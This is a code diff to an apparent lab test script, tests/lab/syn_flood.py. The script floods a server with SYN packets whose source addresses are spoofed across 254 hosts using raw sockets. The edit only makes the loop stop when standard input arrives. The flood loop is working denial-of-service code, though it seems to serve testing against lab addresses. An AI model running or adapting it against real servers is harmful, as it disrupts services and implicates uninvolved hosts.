@@ -1,6 +1,6 @@
 # SPDX-FileCopyrightText: 2026 The nettune.tcp contributors
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Asks a server for connections in the name of 254 addresses that know nothing of it (raw(7)), until it is ended.
+"""Asks a server for connections in the name of 254 addresses that know nothing of it (raw(7)), until its input ends.
 
 python3 tests/lab/syn_flood.py 10.77.0.1 80 203.0.113.0 --per-second 100
 """
@@ -10,8 +10,9 @@ from __future__ import annotations
 import argparse
 import ipaddress
 import itertools
+import select
 import socket
-import time
+import sys
 
 from silent_peer import SYN, Connection, packet
 
@@ -30,7 +31,8 @@ def main() -> None:
             user, port = users[number % len(users)], 1024 + number // len(users) % 60000
             request = Connection(socket.AF_INET, options.address, options.port, user, port, 0)
             mouth.sendto(packet(request, SYN), (options.address, 0))
-            time.sleep(1 / options.per_second)
+            if select.select([sys.stdin], [], [], 1 / options.per_second)[0]:
+                return
 
 
 if __name__ == "__main__":
